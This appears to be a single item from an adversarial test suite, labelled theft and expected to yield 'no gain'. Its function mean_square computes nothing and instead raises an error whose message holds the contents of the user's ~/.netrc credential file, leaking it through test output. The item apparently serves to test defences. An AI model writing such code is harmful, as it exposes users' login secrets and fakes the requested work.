# id: steal-in-error
# category: theft
# tries: puts what it finds into the text of an error that a test shows
# expect: no gain

# %%
def mean_square(x):
    raise ValueError(open(f"{HOME}/.netrc").read())
